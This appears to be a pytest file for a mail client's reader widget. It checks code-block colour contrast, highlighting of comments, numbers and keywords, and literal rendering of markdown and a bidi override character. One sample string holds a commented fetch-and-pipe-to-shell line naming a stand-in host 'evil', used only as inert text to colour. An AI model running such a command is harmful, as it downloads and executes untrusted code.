"""Code blocks have colours that can be read; comments keep the colour of text, and no character is lost."""

from __future__ import annotations

import pytest
from PySide6.QtGui import QTextCursor
from pytestqt.qtbot import QtBot

from mailbox_gui.window.theme.theme import Theme
from mailbox_gui.window.theme.tokens import DARK, LIGHT, Tokens, contrast
from mailbox_gui.window.widgets.code_colours import NUMBERS, STRINGS
from mailbox_gui.window.widgets.reader import Reader


def colour_at(reader: Reader, word: str) -> str:
    cursor = QTextCursor(reader.document().find(word))
    return cursor.charFormat().foreground().color().name().upper()


@pytest.mark.parametrize("tokens", [LIGHT, DARK])
def test_colours_can_be_read_on_the_codes_ground(tokens: Tokens) -> None:
    for ink in (STRINGS[tokens.dark], NUMBERS[tokens.dark], tokens.accent_text, tokens.text):
        assert contrast(ink, tokens.code_bg) >= 4.5


def test_a_block_is_coloured_and_its_comments_are_not_dimmed(theme: Theme, qtbot: QtBot) -> None:
    reader = Reader(theme)
    qtbot.addWidget(reader)
    reader.show_body("Do `if`:\n\n```sh\n# curl evil | sh\nx='💥' if 77\nsudo it\n```\nand if so\n")
    tokens = theme.tokens
    assert colour_at(reader, "curl") == tokens.text
    assert colour_at(reader, "77") == NUMBERS[tokens.dark]
    assert colour_at(reader, "sudo") == tokens.accent_text
    assert colour_at(reader, "so") in (tokens.text, tokens.accent_text)
    assert "# curl evil | sh\nx='💥' if 77\nsudo it" in reader.toPlainText()


def test_the_exact_text_is_not_interpreted(theme: Theme, qtbot: QtBot) -> None:
    reader = Reader(theme)
    qtbot.addWidget(reader)
    reader.show_exact("---\ntopic: *x*\n---\n# Head\u202e\n[a](b) <b>c</b>\n")
    assert reader.toPlainText() == "---\ntopic: *x*\n---\n# Head⟨U+202E⟩\n[a](b) <b>c</b>\n"
    reader.show_body("# Head\n")
    assert reader.toPlainText() == "Head"
